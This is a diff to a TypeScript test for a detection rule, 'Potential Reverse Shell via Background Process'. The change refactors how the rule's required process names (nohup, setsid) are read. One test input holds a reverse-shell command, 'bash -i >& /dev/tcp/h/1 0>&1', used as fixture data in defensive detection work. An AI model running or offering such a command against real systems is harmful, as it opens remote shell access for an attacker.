@@ -6,6 +6,7 @@ import { entityId } from "../../../src/process/ecs-process.js";
 import { ecsHost } from "../../../src/rules/elastic/ecs-host.js";
 import type { ProcessInfo, ProcessView, RuleContext } from "../../../src/engine/rule.js";
 import type { ExecEvent } from "../../../src/sensor/events.js";
+import { requiredValues } from "../../../src/eql/analysis.js";
 import { compileEql, getField } from "../../../src/eql/compile.js";
 import { buildExecEcsDocument, execEcsDocument } from "../../../src/rules/elastic/ecs-exec.js";
 import {
@@ -129,7 +130,7 @@ describe("seed rule: Potential Reverse Shell via Background Process", () => {
   it("an exec of another program is decided without building its ECS document", () => {
     const compiled = loaded!.rule!.compiled;
     if (compiled.kind !== "event") throw new Error("the seed rule is a single-event rule");
-    expect([...compiled.requiredValues("process.name")!.values].sort()).toEqual(["nohup", "setsid"]);
+    expect([...requiredValues(compiled.where, "process.name")!.values].sort()).toEqual(["nohup", "setsid"]);
     let lookups = 0;
     const counting: ProcessView = { get: (pid) => (lookups++, shellParent.get(pid)), ancestors: () => [] };
     expect(fires(execEvent("/usr/bin/ls", ["ls", "bash -i >& /dev/tcp/h/1 0>&1"]), counting)).toBe(false);
